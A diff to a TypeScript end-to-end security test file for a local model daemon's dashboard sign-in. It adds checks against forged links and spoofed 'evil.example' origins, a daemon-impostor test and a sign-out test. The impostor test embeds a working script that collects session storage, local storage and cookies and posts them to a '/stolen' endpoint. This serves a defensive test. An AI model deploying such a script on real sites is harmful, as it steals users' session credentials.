@@ -1,8 +1,9 @@
 import assert from "node:assert/strict";
 import { readFile } from "node:fs/promises";
-import { request } from "node:http";
+import { createServer, request } from "node:http";
 import { join } from "node:path";
 import type { Page } from "playwright-core";
+import { entryOf, openTab, signIn } from "../test/support/page-session.ts";
 import { watchedPage } from "./chromium.ts";
 import { assertHarmless, dashboardLink, settled, withDashboard } from "./dashboard.ts";
 import { type Check, daemonPid, otherModel, realModel } from "./world.ts";
@@ -71,30 +72,34 @@ const locked: Check = [
     assert.equal(page.status, 200);
     for (const name of [otherModel, world.home]) assert.equal(page.body.includes(name), false, name);
     const call = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "system_status", arguments: {} } };
-    const code = { code: hash.slice(1) };
+    const [id = "", code = ""] = hash.slice(1).split(".");
+    const nonce = "0".repeat(32);
     const refused: Readonly<Record<string, Answer>> = {
       "stream without a token": await ask(`${origin}/dashboard/events`, {}),
       "stream with a wrong token": await ask(`${origin}/dashboard/events`, { authorization: "Bearer wrong" }),
-      "stream with the link's code": await ask(`${origin}/dashboard/events`, { authorization: `Bearer ${code.code}` }),
+      "stream with the link's code": await ask(`${origin}/dashboard/events`, { authorization: `Bearer ${code}` }),
       "stream with the token in the address": await ask(`${origin}/dashboard/events?token=wrong`, {}),
       "call without a token": await ask(`${origin}/mcp`, json, call),
-      "wrong code": await ask(`${origin}/dashboard/session`, json, { code: "A".repeat(43) }),
+      "wrong link": await ask(`${origin}/dashboard/session`, json, { by: "link", id: "0".repeat(16), nonce }),
+      "no proof": await ask(`${origin}/dashboard/session`, json, { by: "link", id, nonce, proof: nonce }),
       "session for another site's page": await ask(
         `${origin}/dashboard/session`,
         { ...json, origin: "http://evil.example", "sec-fetch-site": "cross-site" },
-        code,
+        { by: "link", id, nonce },
       ),
       "page under another name": await ask(`${origin}/dashboard`, { host: "evil.example" }),
-      "session under another name": await ask(`${origin}/dashboard/session`, { ...json, host: "evil.example" }, code),
+      "session under another name": await ask(
+        `${origin}/dashboard/session`,
+        { ...json, host: "evil.example" },
+        { by: "link", id, nonce },
+      ),
     };
     for (const [what, { status, body }] of Object.entries(refused)) {
       assert.ok([400, 401, 403].includes(status), `${what}: ${status} ${body}`);
       for (const name of [realModel, "availableBytes", "models"]) assert.equal(body.includes(name), false, what);
     }
     // None of that has used the link up, and what it gives opens the stream.
-    const begun = await ask(`${origin}/dashboard/session`, json, code);
-    assert.equal(begun.status, 200, begun.body);
-    const { token } = JSON.parse(begun.body) as { readonly token: string };
+    const { bearer: token } = await signIn(url);
     const stream = await ask(`${origin}/dashboard/events`, { authorization: `Bearer ${token}` });
     assert.match(stream.body, /^event: |^data: /m);
     const home = await readFile(join(world.home, "run", "http-token"), "utf8");
@@ -119,6 +124,90 @@ const restart: Check = [
       await page.reload();
       await page.getByRole("heading", { name: "Models", exact: true }).waitFor();
       await settled(page);
+    }),
+];
+
+/** A page that takes what a browser has kept for its address. */
+const thief = `<script>
+  const kept = JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie]);
+  fetch("/stolen", { method: "POST", body: kept }).then(() => (document.title = "stolen"));
+</script>`;
+
+const impostor: Check = [
+  "session: after a kill, a program on the page's port gets nothing that opens the next daemon",
+  (scene) =>
+    withDashboard(scene, async ({ page, origin }) => {
+      const { world } = scene;
+      await page.getByText("Connected", { exact: true }).waitFor();
+      const got: string[] = [];
+      const server = createServer((asked, answer) => {
+        let body = "";
+        asked.setEncoding("utf8").on("data", (part: string) => (body += part));
+        asked.once("end", () => {
+          got.push(`${asked.method} ${asked.url} ${JSON.stringify(asked.headers)} ${body}`);
+          const isPage = asked.url === "/dashboard" && asked.method === "GET";
+          answer.setHeader("content-type", isPage ? "text/html" : "application/json");
+          answer.end(isPage ? thief : '{"nonce":"00000000000000000000000000000000","proof":"00"}');
+        });
+      });
+      process.kill(await daemonPid(world), "SIGKILL");
+      try {
+        // The system frees the port a moment after the kill.
+        for (let tries = 0; !server.listening; tries++) {
+          assert.ok(tries < 500, "the port is not free");
+          await new Promise<void>((resolve) => {
+            server.once("error", () => setTimeout(resolve, 10));
+            server.listen(Number(new URL(origin).port), "127.0.0.1", resolve);
+          });
+        }
+        await page.getByText("has not proved to be your ollm daemon").waitFor();
+        assert.match(got.join("\n"), /POST \/dashboard\/session/);
+        // What the user opens meanwhile asks it for nothing, either.
+        await page.evaluate(() => (location.hash = "#/models"));
+        await page.getByText("has not proved to be your ollm daemon").nth(1).waitFor();
+        assert.doesNotMatch(got.join("\n"), /authorization|"proof"|\/events|\/mcp/);
+        // The user reloads, and gets the program's own page, at the same origin.
+        await page.reload();
+        await page.waitForFunction(() => document.title === "stolen");
+        const stolen = got.findLast((line) => line.startsWith("POST /stolen")) ?? "";
+        const kept = /"ollm-session":"([^"]+)"/.exec(stolen)?.[1] ?? "";
+        assert.notEqual(kept, "", stolen);
+        const next = new URL(await dashboardLink(world));
+        assert.notEqual(next.origin, origin, "ollm dashboard printed the port of the other program");
+        for (const word of new Set(got.join("\n").match(/[\w.-]{12,}/g) ?? [])) {
+          const { status } = await ask(`${next.origin}/dashboard/events`, { authorization: `Bearer ${word}` });
+          assert.equal(status, 401, word);
+        }
+        const tab = openTab(next.origin, new Map([["ollm-session", kept]]));
+        await tab.session.open("");
+        assert.deepEqual(await entryOf(tab), { kind: "ended" });
+        await withDashboard(scene, async (opened) => assert.equal(opened.origin, next.origin));
+      } finally {
+        await new Promise((resolve) => {
+          server.close(resolve);
+          server.closeAllConnections();
+        });
+      }
+    }),
+];
+
+const signedOut: Check = [
+  "session: signing out ends it in every tab, and no reload brings it back",
+  (scene) =>
+    withDashboard(scene, async ({ page, context, origin }) => {
+      await page.getByText("Connected", { exact: true }).waitFor();
+      const kept = await page.evaluate(() => sessionStorage.getItem("ollm-session") ?? "");
+      await context.addInitScript((value) => sessionStorage.setItem("ollm-session", value), kept);
+      const other = await context.newPage();
+      await other.goto(`${origin}/dashboard`);
+      await other.getByText("Connected", { exact: true }).waitFor();
+      await page.getByRole("button", { name: "Sign out" }).first().click();
+      await page.getByText("Signed out.").waitFor();
+      assert.equal(await page.evaluate(() => sessionStorage.length), 0);
+      await other.getByText("The session has ended").waitFor();
+      assert.equal((await ask(`${origin}/dashboard/events`, { authorization: `Bearer ${kept}` })).status, 401);
+      await page.reload();
+      await page.getByText("The session has ended").waitFor();
     }),
 ];
 
@@ -151,4 +240,4 @@ const tabs: Check = [
     }),
 ];
 
-export const sessionChecks: readonly Check[] = [link, locked, restart, tabs];
+export const sessionChecks: readonly Check[] = [link, locked, restart, impostor, signedOut, tabs];
